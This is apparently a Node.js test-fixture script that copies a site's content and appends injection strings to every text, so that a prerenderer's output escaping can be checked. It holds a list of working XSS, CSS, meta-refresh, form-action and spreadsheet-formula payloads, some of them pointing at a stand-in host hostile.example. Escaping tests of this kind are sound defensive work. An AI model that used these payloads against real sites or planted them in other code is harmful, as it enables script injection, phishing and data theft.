// Makes seeds up in which every text tries to become markup, script, style, a formula or a turned line:
// `node hostile.mjs SEEDS DIST OUT` copies both and adds them as a language; the prerenderer then fills the copy.
import { cpSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { argv } from 'node:process';
import { fileURLToPath } from 'node:url';

export const HOSTILE = 'en-x-hostile';

/**
 * As they are known from lists of such strings, each with a way out of another place that text can stand in. Digits,
 * braces and square brackets mean something in the seeds and are refused with the place, so there are none.
 */
const PAYLOADS = [
  '<script>globalThis.injected=true</script>',
  '"><img src=x onerror=globalThis.injected=true>',
  "'><svg/onload=globalThis.injected=true>",
  '</title><script>globalThis.injected=true</script>',
  '</script><script>globalThis.injected=true</script>',
  '</style><style>@import url(//hostile.example/x.css);</style>',
  '</textarea><img src=x onerror=globalThis.injected=true>',
  '<iframe srcdoc="<script>parent.injected=true</script>"></iframe>',
  '<a href="javascript:globalThis.injected=true">x</a>',
  '" onmouseover="globalThis.injected=true" x="',
  "' onfocus='globalThis.injected=true' autofocus x='",
  '<!-- --><!--><img src=x onerror=globalThis.injected=true>-->',
  '<math><mtext><table><mglyph><style><img src=x onerror=globalThis.injected=true>',
  '<svg><script href="data:,globalThis.injected=true"/></svg>',
  '<base href="//hostile.example/">',
  '<meta http-equiv="refresh" content="none;url=//hostile.example/">',
  '<link rel=stylesheet href="//hostile.example/x.css">',
  '<form action="//hostile.example/"><input name=x><button>x</button></form>',
  '<body onload=globalThis.injected=true>',
  '<details open ontoggle=globalThis.injected=true>',
  '&lt;img src=x onerror=globalThis.injected=true&gt;&lt;script&gt;globalThis.injected=true&lt;/script&gt;',
  '`$(globalThis.injected=true)`;globalThis.injected=true//',
  '=HYPERLINK("//hostile.example/","x")',
  'url(javascript:globalThis.injected=true);background:url(//hostile.example/x.png)',
  '\u2028globalThis.injected=true\u2029',
];

/** A list that others keep of strings that make trouble as input: scripts, paths, formulas, letters that turn a line. */
export const NAUGHTY = createRequire(import.meta.url)('big-list-of-naughty-strings').filter(Boolean);

/**
 * The same for seeds: digits, braces and brackets made letters, so that what is left is read as text, and without what cannot
 * be printed, which is refused.
 */
export const SPOILING = [...PAYLOADS, ...new Set(NAUGHTY.map((text) => text.replace(/[\d{}[\]]/gu, 'n').replace(/[\p{Cc}\ufffe\uffff]/gu, '')))];

let next = 0;
const spoil = (value) => {
  if (typeof value === 'string') return `${value} ${SPOILING[(next += 1) % SPOILING.length]}`;
  if (Array.isArray(value)) return value.map(spoil);
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([key, v]) => [key, spoil(v)]));
  return value;
};

function makeHostile(seeds, out) {
  cpSync(seeds, out, { recursive: true });
  const [from, to] = [join(seeds, 'text/en'), join(out, 'text', HOSTILE)];
  mkdirSync(to, { recursive: true });
  for (const file of readdirSync(from)) {
    const words = JSON.parse(readFileSync(join(from, file), 'utf8'));
    const made = spoil(words);
    // How numbers and lines are written is a choice among few, not text.
    if (file === 'ui.json') Object.assign(made, { direction: words.direction, numerals: words.numerals, dates: words.dates });
    writeFileSync(join(to, file), JSON.stringify(made, null, 1));
  }
  const sources = join(out, 'sources.json');
  const spoilt = JSON.parse(readFileSync(sources, 'utf8')).map((source) => ({ ...source, publisher: spoil(source.publisher), title: spoil(source.title) }));
  writeFileSync(sources, JSON.stringify(spoilt, null, 1));
}

if (argv[1] === fileURLToPath(import.meta.url)) {
  const [seeds, dist, out] = argv.slice(2);
  makeHostile(seeds, join(out, 'seeds'));
  cpSync(dist, join(out, 'dist'), { recursive: true });
}
